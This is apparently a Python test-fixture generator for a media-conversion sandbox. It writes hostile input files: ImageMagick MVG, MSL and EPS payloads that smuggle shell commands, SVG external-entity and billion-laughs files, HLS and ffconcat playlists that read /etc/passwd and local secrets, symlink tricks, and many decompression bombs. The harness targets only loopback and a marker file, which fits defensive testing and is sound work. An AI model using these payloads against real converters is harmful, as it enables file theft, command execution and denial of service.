#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Files that want something else than to be converted: generate.py ROOT OUTSIDE PORT makes them below ROOT. They try to read what
is in OUTSIDE and to connect to PORT on the loopback interface. Nothing is downloaded, nothing hostile is kept in the repository.

What must come for each of them is in manifest.py."""

import os
import random
import socket
import struct
import subprocess
import sys
import zlib
from pathlib import Path

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../lib"))

import decoders  # noqa: E402
import media  # noqa: E402
import tiny  # noqa: E402
from manifest import FLIPS, FORMATS, GOOD_COLOUR, NAMES  # noqa: E402

# Stands in every text outside of the root, and its colour in every picture and film there.
MARKER = "SLUICE-FOREIGN-7fJq"
FOREIGN_COLOUR = (255, 0, 255)


def solid(target, colour, size="64x48"):
    media.convert("-size", size, "xc:rgb(%d,%d,%d)" % colour, "-quality", "95", target)


def outside(directory):
    """What nobody may see: readable for everybody, so that only sluice stands before it."""
    (directory / "secret.txt").write_text(f"{MARKER}\n" * 20)
    for name in ("secret.png", "secret.jpg", "secret.miff", "secret.mvg.png"):
        solid(directory / name, FOREIGN_COLOUR)
    media.ffmpeg("-f", "lavfi", "-i", "color=c=0xff00ff:s=64x48:r=10:d=2", "-f", "lavfi", "-i", "sine=d=2", "-c:v", "libx264",
                 "-preset", "ultrafast", "-c:a", "aac", "-shortest", directory / "secret.mp4")
    media.ffmpeg("-i", directory / "secret.mp4", "-c", "copy", "-f", "mpegts", directory / "secret.ts")


# ---- one good file of each format ------------------------------------------------------------------------------------------


def formats(root):
    """FORMATS: names under good/ that convert; what is cut and flipped is made of them."""
    good = root / "good"
    good.mkdir()
    noisy = ["-seed", "3", "-size", "160x120", "plasma:red-blue"]
    media.convert(*noisy, good / "jpeg.jpg")
    media.convert(*noisy, "-interlace", "JPEG", good / "progressive.jpg")
    media.convert(*noisy, good / "png.png")
    media.convert(*noisy, "(", "+clone", "-flop", ")", "(", "+clone", "-flip", ")", good / "gif.gif")
    media.convert(*noisy, good / "webp.webp")
    media.convert(*noisy, "-define", "webp:lossless=true", good / "lossless.webp")
    media.convert(*noisy, "-compress", "LZW", good / "tiff.tiff")
    decoders.formats(good)
    clip = good / "mp4.mp4"
    media.ffmpeg("-f", "lavfi", "-i", "testsrc2=s=160x120:r=10:d=3,format=gray,format=yuv420p", "-f", "lavfi", "-i", "sine=d=3", "-c:v", "libx264", "-preset",
                 "ultrafast", "-g", "10", "-c:a", "aac", "-movflags", "+faststart", clip)
    media.ffmpeg("-i", clip, "-c", "copy", good / "mov.mov")
    media.ffmpeg("-i", clip, "-c", "copy", good / "mkv.mkv")
    media.ffmpeg("-i", clip, "-c:v", "libvpx", "-deadline", "realtime", "-cpu-used", "8", "-c:a", "libvorbis", good / "webm.webm")
    for name in ("mp3.mp3", "flac.flac", "ogg.ogg", "opus.opus", "wav.wav"):
        media.ffmpeg("-i", clip, "-vn", *(["-c:a", "libopus"] if name == "opus.opus" else []), good / name)


def cuts_and_flips(root):
    """cut/PERCENT-NAME; flip/N-NAME: some bits turned over behind the first bytes, which say what the file is."""
    (root / "cut").mkdir()
    (root / "flip").mkdir()
    for name in FORMATS:
        data = (root / "good" / name).read_bytes()
        for percent in (1, 10, 50, 90):
            (root / "cut" / f"{percent}-{name}").write_bytes(data[:len(data) * percent // 100])
        for number in range(FLIPS):
            dice = random.Random(f"{name} {number}")
            flipped = bytearray(data)
            for _ in range(dice.choice((1, 3, 30))):
                # Most of what can go wrong is decided in the first KiB.
                at = dice.randrange(12, min(len(data), 1024) if number % 2 else len(data))
                flipped[at] ^= 1 << dice.randrange(8)
            (root / "flip" / f"{number}-{name}").write_bytes(flipped)


# ---- scripts, playlists and documents with the names of pictures and films -------------------------------------------------------


def tricks(root, secrets, port, touched):
    made = root / "trick"
    made.mkdir()
    url = f"http://127.0.0.1:{port}"

    def put(name, text):
        (made / name).write_bytes(text if isinstance(text, bytes) else text.encode())

    mvg = f"""push graphic-context
viewbox 0 0 64 48
fill 'url({url}/x.jpg"|touch "{touched})'
image over 0,0 0,0 '{secrets}/secret.png'
image over 0,0 0,0 'ephemeral:{secrets}/secret.png'
image over 0,0 0,0 'label:@{secrets}/secret.txt'
image over 0,0 0,0 'msl:{secrets}/secret.miff'
pop graphic-context
"""
    put("mvg.jpg", mvg)
    put("mvg.png", mvg)
    put("mvg-behind-a-jpeg.jpg", tiny.jpeg(64, 48)[:20] + mvg.encode())
    put("mvg-behind-a-png.png", tiny.png(64, 48)[:33] + mvg.encode())
    put("msl.jpg", f"""<?xml version="1.0" encoding="UTF-8"?>
<image><read filename="{secrets}/secret.png"/><read filename="{url}/a.png"/><write filename="{touched}"/></image>
""")
    svg = f"""<?xml version="1.0" standalone="no"?>
<!DOCTYPE svg [<!ENTITY foreign SYSTEM "file://{secrets}/secret.txt">]>
<svg width="64" height="48" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
  xmlns:xi="http://www.w3.org/2001/XInclude">
<image xlink:href="file://{secrets}/secret.png" width="64" height="48"/>
<image xlink:href="{secrets}/secret.png" width="64" height="48"/>
<image xlink:href="../../outside/secret.png" width="64" height="48"/>
<image xlink:href="{url}/a.png" width="64" height="48"/>
<image xlink:href="{url}/x.jpg&quot;|touch &quot;{touched}" width="64" height="48"/>
<text x="0" y="20" font-size="6">&foreign;</text><xi:include href="file://{secrets}/secret.txt" parse="text"/></svg>
"""
    put("svg.jpg", svg)
    put("svg.svg", svg)
    put("svg.mp4", svg)
    put("laughs.svg", "<?xml version='1.0'?>\n<!DOCTYPE svg [<!ENTITY a0 'ha'>" + "".join(
        f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>\n<svg width='9' height='9' "
        "xmlns='http://www.w3.org/2000/svg'><text>&a9;</text></svg>")
    put("uses.svg", "<svg width='900' height='900' xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>"
        "<defs><g id='g0'><rect width='9' height='9'/></g>" + "".join(
            f"<g id='g{n}'>" + f"<use xlink:href='#g{n - 1}'/>" * 10 + "</g>" for n in range(1, 9)) +
        "</defs><use xlink:href='#g8'/></svg>")
    put("eps.jpg", f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 48\n({secrets}/secret.txt) (r) file\n(%pipe%touch {touched}) (w) file\n")
    put("pdf.jpg", f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F({touched})>>>>endobj\n%%EOF\n")
    put("text.jpg", f"text:{secrets}/secret.txt\n@{secrets}/secret.txt\n" * 9)
    put("html.jpg", f"<html><img src='file://{secrets}/secret.png'></html>")
    put("script.jpg", f"#!/bin/sh\ntouch {touched}\n")

    for kind in ("m3u8", "mp4", "mkv", "mp3"):
        put(f"hls-file.{kind}", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:2.0,\n"
            f"file://{secrets}/secret.ts\n#EXTINF:2.0,\n{secrets}/secret.ts\n#EXT-X-ENDLIST\n")
        put(f"hls-passwd.{kind}", "#EXTM3U\n#EXTINF:2.0,\nfile:///etc/passwd\n#EXTINF:1.0,\n"
            f"concat:{url}/x|file://{secrets}/secret.txt\n#EXT-X-ENDLIST\n")
        put(f"hls-http.{kind}", f"#EXTM3U\n#EXTINF:2.0,\n{url}/a.ts\n#EXT-X-KEY:METHOD=AES-128,URI=\"{url}/key\"\n"
            f"#EXTINF:2.0,\ntcp://127.0.0.1:{port}\n#EXT-X-ENDLIST\n")
        put(f"concat.{kind}", f"ffconcat version 1.0\nfile '{secrets}/secret.mp4'\nfile 'file://{secrets}/secret.mp4'\n")
        put(f"dash.{kind}", '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
            f'mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="0" bandwidth="9">'
            f"<BaseURL>{url}/a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>\n")
        put(f"sdp.{kind}", f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"
            "a=rtpmap:96 H264/90000\n")
        put(f"ref.{kind}", f"[Reference]\nRef1={url}/a\n")
        put(f"playlist-behind-ftyp.{kind}", struct.pack(">I4s4sI4s", 20, b"ftyp", b"isom", 0, b"isom") +
            f"\n#EXTM3U\n#EXTINF:2.0,\nfile://{secrets}/secret.ts\n#EXT-X-ENDLIST\n".encode())
    # A film whose media data are said to be in another file.
    clip = (root / "good/mov.mov").read_bytes()
    other = f"{secrets}/secret.mp4".encode()
    put("data-reference.mov", clip.replace(b"url \0\0\0\1", b"alis\0\0\0\0"))
    put("data-reference-url.mov", clip.replace(b"\0\0\0\x0curl \0\0\0\1", struct.pack(">I", 12) + b"url \0\0\0\0") + other)


def renamed(root):
    made = root / "renamed"
    made.mkdir()
    plain = made / ".plain.png"
    solid(plain, GOOD_COLOUR)
    for kind in ("xpm", "ppm", "miff", "bmp", "ico", "tga", "pcx", "sgi", "fits", "xbm", "sun", "pict", "psd", "dds", "mpc", "palm",
                 "gif", "tiff", "webp", "png", "jpg"):
        media.convert(plain, f"{kind}:{made}/{kind}.jpg")
    plain.unlink()
    (made / "mpc.cache").unlink()
    good = root / "good"
    (made / "mp4.jpg").write_bytes((good / "mp4.mp4").read_bytes())
    (made / "jpg.mp4").write_bytes((good / "jpeg.jpg").read_bytes())
    (made / "mp3.jpg").write_bytes((good / "mp3.mp3").read_bytes())
    (made / "avi.mp4").write_bytes(b"RIFF\x24\0\0\0AVI LIST" + b"\0" * 64)
    (made / "zip.jpg").write_bytes(b"PK\3\4\x14\0" + b"\0" * 64)
    (made / "elf.jpg").write_bytes(Path("/bin/true").read_bytes())
    (made / "empty.jpg").write_bytes(b"")
    (made / "zeros.jpg").write_bytes(b"\0" * 4096)
    (made / "one-byte.jpg").write_bytes(b"\xff")


# ---- bombs ---------------------------------------------------------------------------------------------------------------


def png_of_zeros(width, height, depth=1, extra=b""):
    """A whole PNG of one colour; small, since nothing compresses like nothing."""
    squeeze = zlib.compressobj(9)
    row = b"\0" * (1 + (width * depth + 7) // 8)
    data = b"".join(squeeze.compress(row) for _ in range(height)) + squeeze.flush()
    head = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + media.png_chunk(b"IHDR", head) + extra + media.png_chunk(b"IDAT", data)
            + media.png_chunk(b"IEND", b""))


def gif_of_frames(count, width=1, height=1, canvas=None):
    canvas = canvas or (width, height)
    frame = b"!\xf9\4\0\1\0\0\0," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\2\2D\1\0"
    return (b"GIF89a" + struct.pack("<HH", *canvas) + b"\x80\0\0\0\0\0\xff\xff\xff!\xff\x0bNETSCAPE2.0\3\1\0\0\0"
            + frame * count + b";")


def tiff_of(width, height, following=0, strip=8):
    """One directory with one short strip; `following`: where the next directory is said to be."""
    tags = [(256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (277, 3, 1), (278, 4, height), (279, 4, strip)]
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0" + struct.pack("<I", 16) + b"\0" * 8 + struct.pack("<H", len(tags)) + entries + struct.pack("<I", following)


def scan_bomb(jpeg, times):
    """A progressive JPEG whose last scan is repeated: little to send, much to decode."""
    last = jpeg.rindex(b"\xff\xda")
    return jpeg[:-2] + jpeg[last:-2] * times + b"\xff\xd9"


def bombs(root):
    made = root / "bomb"
    made.mkdir()

    def put(name, data):
        (made / name).write_bytes(data)

    put("30000.png", png_of_zeros(30000, 30000))
    put("under-the-limit.png", png_of_zeros(9999, 9999))
    put("wide.png", png_of_zeros(1000000, 1))
    put("ztxt.png", png_of_zeros(9, 9, extra=b"".join(
        media.png_chunk(b"zTXt", b"k%d\0\0" % n + zlib.compress(b"a" * 50_000_000, 9)) for n in range(2))))
    put("iccp.png", png_of_zeros(9, 9, extra=media.png_chunk(b"iCCP", b"k\0\0" + zlib.compress(b"a" * 50_000_000, 9))))
    put("frames.gif", gif_of_frames(20000))
    put("frames-large.gif", gif_of_frames(20000, 1, 1, (2000, 2000)))
    put("canvas.gif", gif_of_frames(1, 1, 1, (65535, 65535)))
    put("header.jpg", tiny.jpeg(65500, 65500))
    put("header-under-the-limit.jpg", tiny.jpeg(9999, 9999))
    put("metadata.jpg", tiny.jpeg(64, 48, 20 << 20))
    put("header.tiff", tiff_of(60000, 60000))
    put("loop.tiff", tiff_of(64, 48, following=16, strip=64 * 48))
    put("strip.tiff", tiff_of(9000, 9000, strip=0xFFFFFFF0))
    put("wide.tiff", tiff_of(0xFFFFFFFF, 2))
    put("header.webp", b"RIFF\x22\0\0\0WEBPVP8L\x15\0\0\0\x2f" + struct.pack("<I", 16383 | 16383 << 14) + b"\0" * 16)
    put("canvas.webp", b"RIFF\x1a\0\0\0WEBPVP8X\x0a\0\0\0\2\0\0\0" + b"\xff\xff\xff\xff\xff\0" + b"ANIM")
    media.convert("-size", "1000x1000", "plasma:", "-interlace", "JPEG", made / ".progressive.jpg")
    progressive = (made / ".progressive.jpg").read_bytes()
    (made / ".progressive.jpg").unlink()
    put("scans.jpg", scan_bomb(progressive, 2000))
    media.ffmpeg("-f", "lavfi", "-i", "color=c=0x208040:s=16x16:r=1000:d=60", "-c:v", "libx264", "-preset", "ultrafast", "-g", "1000",
                 "-movflags", "+faststart", made / "60000-frames.mp4")
    clip = (root / "good/mp4.mp4").read_bytes()
    # Sides of the track and of the sample entry: 65535 x 65535.
    at = clip.index(b"avc1") + 4 + 24
    put("sides.mp4", clip[:at] + b"\xff\xff\xff\xff" + clip[at + 4:])
    # A box that says that it is as long as an exabyte, and one that has no end of boxes in it.
    put("box.mp4", struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 0) + struct.pack(">I4sQ", 1, b"moov", 1 << 60))
    put("nested.mp4", struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 0) + b"".join(
        struct.pack(">I4s", 8 * (5000 - n), b"moov") for n in range(5000)))
    put("time.mp4", clip.replace(b"mvhd\0\0\0\0", b"mvhd\1\0\0\0"))
    put("cluster.mkv", b"\x1aE\xdf\xa3\x93B\x82\x88matroskaB\x87\x81\4B\x85\x81\2" + b"\x18\x53\x80\x67\1\xff\xff\xff\xff\xff\xff\xff" * 500)
    put("id3.mp3", b"ID3\4\0\0\x7f\x7f\x7f\x7f" + b"\0" * 4096)
    put("wav.wav", b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\1\0\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff \0data\xff\xff\xff\xff")


# ---- names, and what is no file ----------------------------------------------------------------------------------------------


def names(root):
    picture, film = root / ".name.jpg", root / "good/mp4.mp4"
    solid(picture, GOOD_COLOUR)
    data, clip = picture.read_bytes(), film.read_bytes()
    picture.unlink()
    for name in NAMES:
        path = os.path.join(os.fsencode(root), b"names", name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(clip if name.endswith(b".mp4") else data)


def specials(root, secrets):
    """Symbolic links, pipes, sockets, devices, directories, and what may not be read."""
    made = root / "special"
    made.mkdir()
    solid(made / "good.jpg", GOOD_COLOUR)
    data = (made / "good.jpg").read_bytes()
    links = {"absolute.jpg": f"{secrets}/secret.png", "up.jpg": "../../outside/secret.png", "passwd.jpg": "/etc/passwd",
             "inside.jpg": "good.jpg", "inside-up.jpg": "../special/good.jpg", "inside-absolute.jpg": f"{made}/good.jpg",
             "loop.jpg": "loop.jpg", "dangling.jpg": "nothing", "fd.jpg": "/proc/self/fd/0", "environ.jpg": "/proc/self/environ",
             "stdin.jpg": "/dev/stdin", "zero.jpg": "/dev/zero", "tree": "/", "tree-up": "../../outside", "chain.jpg": "tree-up/secret.png"}
    for name, target in links.items():
        os.symlink(target, made / name)
    os.mkfifo(made / "fifo.jpg")
    # A path of a socket has 108 bytes at most.
    where = os.open(made, os.O_RDONLY | os.O_DIRECTORY)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(f"/proc/self/fd/{where}/socket.jpg")
    os.close(where)
    (made / "directory.jpg").mkdir()
    (made / "locked").mkdir()
    (made / "locked/good.jpg").write_bytes(data)
    (made / "unreadable.jpg").write_bytes(data)
    os.chmod(made / "unreadable.jpg", 0)
    os.chmod(made / "locked", 0)
    os.link(made / "good.jpg", made / "hardlink.jpg")
    (made / "sparse.jpg").write_bytes(data)
    os.truncate(made / "sparse.jpg", 1 << 40)
    for name, numbers in {"null.jpg": (1, 3), "urandom.jpg": (1, 9)}.items():
        try:
            os.mknod(made / name, 0o20666, os.makedev(*numbers))
        except PermissionError:
            (made / name).mkdir()  # not root: something else that is no file


def generate(root, secrets, port):
    root, secrets = Path(root), Path(secrets)
    outside(secrets)
    formats(root)
    cuts_and_flips(root)
    tricks(root, secrets, port, secrets / "touched")
    renamed(root)
    bombs(root)
    decoders.bombs(root)
    names(root)
    specials(root, secrets)


if __name__ == "__main__":
    if len(sys.argv) != 4:
        print("usage: generate.py ROOT OUTSIDE PORT", file=sys.stderr)
        sys.exit(2)
    for place in sys.argv[1:3]:
        os.makedirs(place, exist_ok=True)
    try:
        generate(*sys.argv[1:3], int(sys.argv[3]))
    except (RuntimeError, subprocess.TimeoutExpired) as error:
        print(error, file=sys.stderr)
        sys.exit(1)
